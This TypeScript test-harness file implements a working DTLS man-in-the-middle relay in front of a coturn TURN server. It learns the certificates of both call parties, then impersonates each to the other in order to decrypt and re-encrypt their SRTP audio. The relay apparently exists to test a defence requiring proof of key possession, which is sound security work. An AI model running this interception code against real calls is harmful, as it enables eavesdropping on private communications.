/**
 * TEST ONLY: a man in the middle on the TURN path, the attack of issue 12.
 *
 * A UDP relay that stands in front of coturn, as test/harness/impair.ts does
 * (clients get `turn:<relay>` as their TURN URL; every client address is one
 * flow with its own upstream socket). It sees what a malicious TURN server, or
 * anyone on the network between a client and its relay, sees: TURN ChannelData
 * (RFC 8656 §12.4) carrying ICE checks, DTLS and SRTP.
 *
 * - `observe`: forwards everything and learns each side's DTLS certificate from
 *   the handshake, where it travels in the clear (DTLS 1.2, RFC 6347): the
 *   DTLS client's from flight 5, the server's from flight 4. werift has one
 *   certificate per process, so the next call shows the same ones.
 * - `attack`: forwards ICE checks untouched but keeps DTLS for itself. Toward
 *   the side that sends the ClientHello it plays the DTLS server with the
 *   other side's certificate, toward the other side the DTLS client with the
 *   first side's certificate, each time signing with a key of its own. Both
 *   victims see the certificate their sealed SDP announced, so a fingerprint
 *   check alone passes; only a handshake that proves possession of the key
 *   (RFC 8827 §6.5) stops it. If both legs connect, the relay decrypts each
 *   side's SRTP with that leg's keys, counts it, and re-encrypts it for the
 *   other: the audio flows and the relay hears it.
 */
import { createSocket, type RemoteInfo, type Socket } from 'node:dgram';
import {
  CipherContext,
  DtlsClient,
  DtlsServer,
  HashAlgorithm,
  NamedCurveAlgorithm,
  RtpPacket,
  SignatureAlgorithm,
  SrtpSession,
  keyLength,
  saltLength,
} from 'werift';
import { LOOPBACK } from './ports';

export type MitmMode = 'observe' | 'attack';

export interface DtlsMitm {
  /** TURN URL for the server's configuration (UDP). */
  url(): string;
  mode: MitmMode;
  /** What the relay learned and did. */
  readonly stats: {
    /** ChannelData messages seen from clients. */
    channelData: number;
    /** DER certificates learned in `observe`: of the DTLS server (the caller, which werift makes the server) and client. */
    serverCertificate?: Buffer;
    clientCertificate?: Buffer;
    /** Attacks begun (a ClientHello taken over). */
    attacks: number;
    /** Legs whose DTLS handshake completed with the relay. */
    legsConnected: number;
    /** Errors the relay's own DTLS endpoints reported (e.g. a fatal alert from a victim). */
    legErrors: string[];
    /** SRTP packets of the victims that the relay decrypted. */
    decryptedRtp: number;
  };
  stop(): Promise<void>;
}

interface Flow {
  client: RemoteInfo;
  upstream: Socket;
  /** The channel this client sends on (and coturn delivers on) for its peer. */
  channel?: number;
  /** It sent a ClientHello: it is the DTLS client. */
  dtlsClient: boolean;
  lastSeen: number;
  leg?: Leg;
}

/** The relay's own DTLS endpoint toward one victim, and that leg's SRTP once connected. */
interface Leg {
  flow: Flow;
  socket: DtlsServer | DtlsClient;
  transport: { onData: (buf: Buffer) => void; send(buf: Buffer): Promise<void>; close(): void };
  srtp?: SrtpSession;
  other?: Leg;
}

const isDtls = (b: Buffer) => b.length > 13 && b[0]! >= 20 && b[0]! <= 63;
const isRtp = (b: Buffer) => b.length > 12 && b[0]! >= 128 && b[0]! <= 191 && !(b[1]! >= 192 && b[1]! <= 223);
const isChannelData = (b: Buffer) => b.length >= 4 && b[0]! >= 0x40 && b[0]! <= 0x4f;

function channelData(channel: number, data: Buffer): Buffer {
  const head = Buffer.alloc(4);
  head.writeUInt16BE(channel, 0);
  head.writeUInt16BE(data.length, 2);
  return Buffer.concat([head, data]);
}

/** Plaintext DTLS handshake messages in a datagram: [msg_type, whole body] (unfragmented ones only). */
function handshakes(datagram: Buffer): [number, Buffer][] {
  const out: [number, Buffer][] = [];
  for (let o = 0; o + 13 <= datagram.length; ) {
    const type = datagram[o]!;
    const epoch = datagram.readUInt16BE(o + 3);
    const len = datagram.readUInt16BE(o + 11);
    const fragment = datagram.subarray(o + 13, o + 13 + len);
    o += 13 + len;
    if (type !== 22 || epoch !== 0 || fragment.length < 12) continue;
    const msgType = fragment[0]!;
    const length = fragment.readUIntBE(1, 3);
    const fragOffset = fragment.readUIntBE(6, 3);
    const fragLength = fragment.readUIntBE(9, 3);
    if (fragOffset === 0 && fragLength === length) out.push([msgType, fragment.subarray(12, 12 + length)]);
  }
  return out;
}

/** The first certificate of a Certificate message body (RFC 5246 §7.4.2). */
function firstCertificate(body: Buffer): Buffer | undefined {
  if (body.length < 6) return undefined;
  const len = body.readUIntBE(3, 3);
  return body.subarray(6, 6 + len);
}

const pem = (der: Buffer) => `-----BEGIN CERTIFICATE-----\n${der.toString('base64').replace(/(.{64})/g, '$1\n')}\n-----END CERTIFICATE-----\n`;

/**
 * Starts the relay on a free loopback port in front of `upstream` (coturn).
 * @param options.mode `observe` first, to learn the certificates; switch to `attack` for the next call.
 */
export async function startDtlsMitm(options: { upstream: { host: string; port: number }; mode?: MitmMode }): Promise<DtlsMitm> {
  const attacker = await CipherContext.createSelfSignedCertificateWithKey(
    { signature: SignatureAlgorithm.ecdsa_3, hash: HashAlgorithm.sha256_4 },
    NamedCurveAlgorithm.secp256r1_23,
  );
  const socket = createSocket('udp4');
  await new Promise<void>((r) => socket.bind(0, LOOPBACK, r));
  const flows = new Map<string, Flow>();
  const stats: DtlsMitm['stats'] = { channelData: 0, attacks: 0, legsConnected: 0, legErrors: [], decryptedRtp: 0 };
  const mitm: DtlsMitm = {
    url: () => `turn:${LOOPBACK}:${(socket.address() as { port: number }).port}?transport=udp`,
    mode: options.mode ?? 'observe',
    stats,
    stop: async () => {
      for (const f of flows.values()) {
        f.leg?.socket.close();
        f.upstream.close();
      }
      await new Promise<void>((r) => socket.close(() => r()));
    },
  };

  const toClient = (flow: Flow, buf: Buffer) => socket.send(buf, flow.client.port, flow.client.address);

  function newLeg(flow: Flow, role: 'server' | 'client', showCertificate: Buffer): Leg {
    const transport = {
      onData: (_buf: Buffer) => {},
      send: async (buf: Buffer) => {
        if (flow.channel !== undefined) toClient(flow, channelData(flow.channel, buf));
      },
      close: () => {},
    };
    const common = {
      cert: pem(showCertificate),
      key: attacker.keyPem,
      signatureHash: attacker.signatureHash,
      transport,
      srtpProfiles: [7, 1],
      extendedMasterSecret: true,
    };
    const dtls = role === 'server' ? new DtlsServer({ ...common, certificateRequest: true } as never) : new DtlsClient(common as never);
    const leg: Leg = { flow, socket: dtls, transport };
    dtls.onConnect.once(() => {
      stats.legsConnected++;
      const profile = dtls.srtp.srtpProfile!;
      const k = dtls.extractSessionKeys(keyLength(profile), saltLength(profile));
      leg.srtp = new SrtpSession({
        keys: { localMasterKey: k.localKey, localMasterSalt: k.localSalt, remoteMasterKey: k.remoteKey, remoteMasterSalt: k.remoteSalt },
        profile,
      });
    });
    dtls.onError.once((e: unknown) => stats.legErrors.push(e instanceof Error ? e.message : String(e)));
    return leg;
  }

  /** A victim's ClientHello: take over both legs of the call. */
  function attack(x: Flow): void {
    const y = [...flows.values()].filter((f) => f !== x && f.channel !== undefined).sort((a, b) => b.lastSeen - a.lastSeen)[0];
    if (!y || !stats.serverCertificate || !stats.clientCertificate) return;
    stats.attacks++;
    // x (the DTLS client, the callee) is shown the caller's certificate; y (the server, the caller) the callee's.
    const toX = newLeg(x, 'server', stats.serverCertificate);
    const toY = newLeg(y, 'client', stats.clientCertificate);
    toX.other = toY;
    toY.other = toX;
    x.leg = toX;
    y.leg = toY;
    void (toY.socket as DtlsClient).connect().catch((e: unknown) => stats.legErrors.push(String(e)));
  }

  /** Client → coturn. Returns whether the datagram is forwarded. */
  function fromClient(flow: Flow, msg: Buffer): boolean {
    if (!isChannelData(msg)) return true;
    stats.channelData++;
    flow.channel = msg.readUInt16BE(0);
    const data = msg.subarray(4, 4 + msg.readUInt16BE(2));
    if (isDtls(data)) {
      const hs = handshakes(data);
      if (hs.some(([t]) => t === 1)) flow.dtlsClient = true;
      if (mitm.mode === 'observe') {
        for (const [t, body] of hs) {
          if (t !== 11) continue;
          const der = firstCertificate(body);
          if (der && flow.dtlsClient) stats.clientCertificate = Buffer.from(der);
          else if (der) stats.serverCertificate = Buffer.from(der);
        }
        return true;
      }
      if (!flow.leg && hs.some(([t]) => t === 1)) attack(flow);
      flow.leg?.transport.onData(Buffer.from(data));
      return false;
    }
    if (mitm.mode === 'attack' && isRtp(data)) {
      const leg = flow.leg;
      const other = leg?.other;
      if (!leg?.srtp || !other?.srtp || other.flow.channel === undefined) return false;
      try {
        const rtp = RtpPacket.deSerialize(leg.srtp.decrypt(data));
        stats.decryptedRtp++;
        toClient(other.flow, channelData(other.flow.channel, other.srtp.encrypt(rtp.payload, rtp.header)));
      } catch {
        // not this leg's SRTP
      }
      return false;
    }
    // RTCP and anything else of an attacked leg would not verify on the other leg: drop it.
    return !(mitm.mode === 'attack' && flow.leg && data.length > 0 && data[0]! >= 128);
  }

  /** coturn → client. Returns whether the datagram is forwarded. */
  function fromServer(msg: Buffer): boolean {
    if (mitm.mode !== 'attack' || !isChannelData(msg)) return true;
    const data = msg.subarray(4, 4 + msg.readUInt16BE(2));
    return !isDtls(data) && !(data.length > 0 && data[0]! >= 128);
  }

  socket.on('message', (msg, rinfo) => {
    const key = `${rinfo.address}:${rinfo.port}`;
    let flow = flows.get(key);
    if (!flow) {
      const upstream = createSocket('udp4');
      upstream.bind(0, LOOPBACK);
      const f: Flow = { client: rinfo, upstream, dtlsClient: false, lastSeen: 0 };
      upstream.on('message', (m) => {
        if (fromServer(m)) toClient(f, m);
      });
      flows.set(key, f);
      flow = f;
    }
    flow.lastSeen = performance.now();
    if (fromClient(flow, msg)) flow.upstream.send(msg, options.upstream.port, options.upstream.host);
  });
  return mitm;
}
